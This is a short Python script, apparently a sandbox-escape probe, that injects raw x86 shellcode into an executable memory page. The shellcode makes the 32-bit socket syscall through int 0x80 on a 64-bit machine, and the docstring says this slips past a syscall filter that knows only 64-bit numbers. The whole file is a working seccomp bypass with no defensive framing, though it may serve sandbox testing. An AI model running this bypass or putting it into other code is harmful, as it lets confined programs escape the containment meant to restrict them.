"""Calls the kernel by the numbers of a 32-bit program, past a filter that knows only 64."""

import ctypes
import mmap
import os
import platform
import signal

if platform.machine() != "x86_64":
    os.kill(os.getpid(), signal.SIGSYS)  # no such door on this machine
# mov eax, 359 (socket); mov ebx, 40 (AF_VSOCK); mov ecx, 1; xor edx, edx; int 0x80; ret
code = bytes.fromhex("b867010000 bb28000000 b901000000 31d2 cd80 c3")
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
print("socket:", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
